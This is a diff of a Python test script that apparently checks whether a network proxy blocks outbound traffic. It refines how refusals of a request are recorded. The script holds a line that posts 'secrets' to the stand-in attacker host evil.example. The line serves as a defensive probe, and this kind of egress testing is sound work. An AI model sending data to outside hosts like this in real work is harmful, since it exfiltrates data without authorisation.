@@ -20,6 +20,8 @@ out["reply"] = reply.choices[0].message.content or ""
 try:
     urllib.request.urlopen("https://evil.example/upload", data=b"secrets", timeout=10)
     out["evil"] = "reached evil.example"
-except urllib.error.URLError as exc:
-    out["evil"] = str(exc.reason)
+except urllib.error.HTTPError as exc:  # the refusal, answered inside TLS (the default)
+    out["evil"] = f"{exc.code} {exc.reason}"
+except urllib.error.URLError as exc:  # refused at the CONNECT (refusals.inside_tls: false)
+    out["evil"] = str(exc.reason).removeprefix("Tunnel connection failed: ")
 print(json.dumps(out))
